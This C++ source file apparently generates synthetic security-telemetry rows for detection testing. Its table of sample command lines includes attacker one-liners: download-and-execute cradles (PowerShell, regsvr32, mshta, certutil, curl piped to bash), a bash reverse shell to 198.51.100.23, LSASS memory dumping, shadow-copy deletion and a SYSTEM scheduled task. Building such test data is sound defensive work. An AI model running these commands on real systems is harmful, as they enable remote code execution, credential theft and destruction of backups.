#include <algorithm>
#include <array>
#include <string_view>

#include "rows.h"

namespace streamsim {
namespace {

using namespace std::string_view_literals;

struct CommandLines {
  std::string_view program;
  std::array<std::string_view, 3> lines;  // {path} the program's path, {user} an account, {b64} base64 text
};

constexpr std::array kCommandLines{
    CommandLines{"cmd.exe",
                 {R"(cmd.exe /c "whoami /all > %TEMP%\w.txt")", R"("cmd.exe" /c dir C:\Users\{user}\Documents /s /b)",
                  "cmd.exe /c ping -n 1 10.0.0.1 && net use"}},
    CommandLines{
        "powershell.exe",
        {"powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {b64}",
         R"(powershell.exe -Command "Get-Process | Where-Object { $_.CPU -gt 100 } | Select-Object Name,Id")",
         R"~(powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')")~"}},
    CommandLines{"pwsh.exe",
                 {"pwsh.exe -NoLogo -File C:\\Users\\{user}\\scripts\\sync.ps1 -Mode=full",
                  "pwsh.exe -EncodedCommand {b64}", R"("{path}" -c "Get-ChildItem Env:")"}},
    CommandLines{"rundll32.exe",
                 {R"(rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl)",
                  R"(rundll32.exe C:\Users\{user}\AppData\Local\Temp\x64.dll,DllRegisterServer)",
                  R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full)"}},
    CommandLines{"regsvr32.exe",
                 {"regsvr32.exe /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll", "regsvr32.exe /s vbscript.dll",
                  R"("{path}" /u C:\ProgramData\plugin.ocx)"}},
    CommandLines{"mshta.exe",
                 {R"~(mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.23/p.sct"")")))~",
                  R"(mshta.exe "C:\Users\{user}\Downloads\invoice.hta")", "mshta.exe about:blank"}},
    CommandLines{"WMIC.exe",
                 {R"(wmic.exe /node:srv-sql-03 process call create "cmd.exe /c calc")",
                  "wmic.exe shadowcopy delete /nointeractive", "wmic.exe os get caption,version /format:list"}},
    CommandLines{"svchost.exe",
                 {"svchost.exe -k netsvcs -p -s Schedule", "svchost.exe -k LocalServiceNetworkRestricted -p",
                  "svchost.exe -k DcomLaunch -p"}},
    CommandLines{"WINWORD.EXE",
                 {R"("{path}" /n "C:\Users\{user}\Downloads\invoice_88121.docm" /o "")", R"("{path}" /safe)",
                  R"("{path}" /n "C:\Users\{user}\Documents\board-minutes.docx")"}},
    CommandLines{"certutil.exe",
                 {"certutil.exe -urlcache -split -f http://198.51.100.23/u.bin C:\\Users\\Public\\u.exe",
                  "certutil.exe -decode C:\\Users\\{user}\\AppData\\Local\\Temp\\b.txt C:\\Users\\{user}\\b.dll",
                  "certutil.exe -verify -urlfetch C:\\Temp\\cert.cer"}},
    CommandLines{
        "schtasks.exe",
        {R"(schtasks.exe /create /tn "OneDrive Updater" /tr "C:\ProgramData\updater.exe -silent" /sc onlogon /ru SYSTEM)",
         "schtasks.exe /query /fo LIST /v", R"(schtasks.exe /run /tn "\Microsoft\Windows\Defrag\ScheduledDefrag")"}},
    CommandLines{"net.exe",
                 {R"(net.exe group "Domain Admins" /domain)", "net.exe user {user} /domain",
                  "net.exe use \\\\srv-file-02\\share$ /user:CONTOSO\\{user}"}},
    CommandLines{"bash",
                 {"bash -c 'curl -s http://198.51.100.23/i.sh | bash'", "/bin/bash /opt/backup/run.sh --full",
                  "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"}},
};

std::string substituted(std::string_view line, const FileInfo &program, const Account &account, Row &row) {
  std::string out;
  for (std::size_t i = 0; i < line.size();) {
    if (line.substr(i).starts_with("{path}")) {
      out += program.folder;
      i += 6;
    } else if (line.substr(i).starts_with("{user}")) {
      out += account.name;
      i += 6;
    } else if (line.substr(i).starts_with("{b64}")) {
      constexpr std::string_view kBase64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
      const auto length = 4 * row.rng.between(10, 60);
      for (std::int64_t k = 0; k < length; ++k) out += kBase64[row.rng.below(kBase64.size())];
      out += "==";
      i += 5;
    } else {
      out += line[i++];
    }
  }
  return out;
}

}  // namespace

const Account &some_account(Row &row) {
  return row.rng.chance(80) ? pick(row.rng, row.estate.people) : pick(row.rng, row.estate.service_accounts);
}

const FileInfo &program_for(Row &row, const Device &device) {
  const auto runs_there = [&](const FileInfo &program) { return device.windows != program.folder.starts_with('/'); };
  const auto &programs = row.estate.programs;
  auto left = row.rng.below(static_cast<std::uint64_t>(std::count_if(programs.begin(), programs.end(), runs_there)));
  for (const FileInfo &program : programs)
    if (runs_there(program) && left-- == 0) return program;
  return programs.front();
}

std::string command_line(Row &row, const FileInfo &program, const Account &account) {
  for (const auto &c : kCommandLines)
    if (c.program == program.name) return substituted(c.lines[row.rng.below(c.lines.size())], program, account, row);
  if (row.rng.chance(50)) return "\"" + program.folder + "\"";
  return program.name + (row.rng.chance(50) ? " --type=renderer --field-trial-handle=1736,i,1492" : " /background");
}

std::string private_ip(Row &row) {
  return "10." + std::to_string(row.rng.between(1, 40)) + "." + std::to_string(row.rng.between(0, 255)) + "." +
         std::to_string(row.rng.between(2, 254));
}

std::string public_ip(Row &row) {
  if (row.rng.chance(10)) return "2001:db8:" + row.rng.hex(4) + "::" + row.rng.hex(2);
  return (row.rng.chance(50) ? "198.51.100." : "192.0.2.") + std::to_string(row.rng.between(1, 254));
}

std::int64_t report_id(Row &row) { return row.rng.between(1, 9'999'999); }

sim::Ticks earlier(Row &row, std::int64_t max_seconds) {
  return row.timestamp - row.rng.between(1, max_seconds * sim::kTicksPerSecond);
}

void device_columns(Columns &columns, const Device &device) {
  columns.id("DeviceId", device.id);
  columns.id("DeviceName", device.name);
}

void file_columns(Columns &columns, const FileInfo &file) {
  columns.text("FileName", file.name);
  columns.text("FolderPath", file.folder);
  columns.id("SHA1", file.sha1);
  columns.id("SHA256", file.sha256);
  columns.id("MD5", file.md5);
}

void account_columns(Columns &columns, const Account &account) {
  columns.id("AccountDomain", account.domain);
  columns.text("AccountName", account.name);
  columns.id("AccountSid", account.sid);
  columns.text_or_null("AccountUpn", account.upn);
  columns.text_or_null("AccountObjectId", account.object_id);
}

void initiating_process_columns(Columns &columns, Row &row, const Device &device) {
  const Account &account = some_account(row);
  const FileInfo &program = program_for(row, device);
  const FileInfo &parent = program_for(row, device);
  const sim::Ticks created = earlier(row, 3600);
  columns.id("InitiatingProcessAccountDomain", account.domain);
  columns.text("InitiatingProcessAccountName", account.name);
  columns.id("InitiatingProcessAccountSid", account.sid);
  columns.text_or_null("InitiatingProcessAccountUpn", account.upn);
  columns.text_or_null("InitiatingProcessAccountObjectId", account.object_id);
  columns.id("InitiatingProcessMD5", program.md5);
  columns.id("InitiatingProcessSHA1", program.sha1);
  columns.id("InitiatingProcessSHA256", program.sha256);
  columns.text("InitiatingProcessFileName", program.name);
  columns.number("InitiatingProcessFileSize", program.size);
  columns.text_or_null("InitiatingProcessVersionInfoCompanyName", program.company);
  columns.number("InitiatingProcessId", row.rng.between(4, 65'000));
  columns.text("InitiatingProcessCommandLine", command_line(row, program, account));
  columns.time("InitiatingProcessCreationTime", created);
  columns.text("InitiatingProcessFolderPath", program.folder);
  columns.number("InitiatingProcessParentId", row.rng.between(4, 65'000));
  columns.text("InitiatingProcessParentFileName", parent.name);
  columns.time("InitiatingProcessParentCreationTime", created - row.rng.between(1, 86'400 * sim::kTicksPerSecond));
  columns.id("InitiatingProcessIntegrityLevel", row.rng.chance(70) ? "Medium" : "High");
  columns.id("InitiatingProcessTokenElevation",
             row.rng.chance(70) ? "TokenElevationTypeLimited" : "TokenElevationTypeFull");
}

void device_row_end(Columns &columns, Row &row, const Device &device) {
  columns.number("ReportId", report_id(row));
  columns.id("AppGuardContainerId", "");
  columns.id_or_null("MachineGroup", device.machine_group);
}

void write_row(TableId table, Columns &columns, Row &row) {
  using Writer = void (*)(Columns &, Row &);
  // Indexed by TableId.
  static constexpr std::array<Writer, 22> kWriters{
      device_process_events,
      device_network_events,
      device_file_events,
      device_registry_events,
      device_logon_events,
      device_image_load_events,
      device_events,
      device_file_certificate_info,
      device_info,
      device_network_info,
      alert_info,
      alert_evidence,
      email_events,
      email_attachment_info,
      email_url_info,
      email_post_delivery_events,
      url_click_events,
      identity_logon_events,
      identity_query_events,
      identity_directory_events,
      cloud_app_events,
      exposure_graph_nodes,
  };
  static_assert(kWriters.size() == static_cast<std::size_t>(TableId::ExposureGraphNodes) + 1);
  kWriters[static_cast<std::size_t>(table)](columns, row);
}

}  // namespace streamsim
